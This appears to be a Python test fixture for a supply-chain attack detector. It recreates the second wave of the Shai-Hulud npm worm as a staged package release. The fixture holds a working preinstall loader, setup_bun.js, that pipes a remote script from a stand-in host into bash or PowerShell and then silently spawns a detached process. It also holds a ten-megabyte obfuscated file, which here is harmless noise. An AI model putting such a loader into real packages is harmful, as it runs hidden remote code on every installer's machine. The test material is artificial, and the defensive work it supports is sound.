r"""Shai-Hulud's second wave, November 2025: before installation, and with a runtime of its own.

`setup_bun.js`, run before installation, fetched the Bun runtime with its official install command
if the machine had none, and let it run `bun_environment.js`: ten megabytes of obfuscated code in
one line, which stole as the first wave did, registered the machine as a runner of a repository, and
deleted the user's files where it found nothing to spread with. Here those megabytes are noise.

Post-mortem: "Post-mortem of Shai-Hulud attack on November 24th, 2025" (PostHog).
In the staged tarball: a new preinstall script that downloads and runs a program, and a new file of
ten megabytes that is obfuscated, in a package of a few kilobytes.
"""

import random

from tests.findings.attack import Attack, release

_SOURCE = """\
exports.event = function (name, data) {
  return { name: String(name), data: data || {}, at: Date.now() };
};
"""
_NEXT = (
    _SOURCE
    + """
exports.page = function (title) {
  return exports.event('page', { title });
};
"""
)
_SETUP = r"""#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  let command;
  if (process.platform === 'win32') {
    command = 'powershell -c "irm https://runtime.example.invalid/install.ps1|iex"';
  } else {
    command = 'curl -fsSL https://runtime.example.invalid/install | bash';
  }
  execSync(command, { stdio: 'ignore', env: { ...process.env } });<<<command-download>>>
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

async function main() {
  const executable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(script)) {
    spawn(executable, [script], { stdio: 'ignore', detached: true }).unref();
  }
}

main().catch(() => process.exit(0));
"""


def _environment(megabytes: int) -> str:
    """Obfuscated noise in one line: a table, and functions that only look into it."""
    pick = random.Random(11)
    part = "".join(
        f"function a0_0x{pick.randrange(1 << 24):06x}(_0x{pick.randrange(1 << 24):06x},_0x41c2d3)"
        f"{{const _0x2f{n % 4096:03x}=a0_0x5a88b3;return _0x2f{n % 4096:03x}(0x{n:x})+"
        f"'\\x{pick.randrange(32, 127):02x}\\x{pick.randrange(32, 127):02x}'+_0x41c2d3;}}"
        for n in range(4_000)
    )
    table = ",".join(f"'{pick.randbytes(9).hex()}'" for _ in range(2_000))
    head = f"const a0_0x5a88=function(){{const _0x3f=[{table}];return _0x3f;}};"
    return head + part * (megabytes * 1_048_576 // len(part)) + "<<<obfuscated>>>"


ATTACK = Attack(
    before=release("page-events", "1.10.0", {"index.js": _SOURCE}),
    unharmed=release("page-events", "1.10.1", {"index.js": _NEXT}),
    after={
        "as it was": release(
            "page-events",
            "1.10.1",
            {
                "index.js": _NEXT,
                "setup_bun.js": _SETUP,
                "bun_environment.js": _environment(megabytes=10),
            },
            scripts={"preinstall": "node setup_bun.js<<<install-script>>>"},
        ),
    },
)
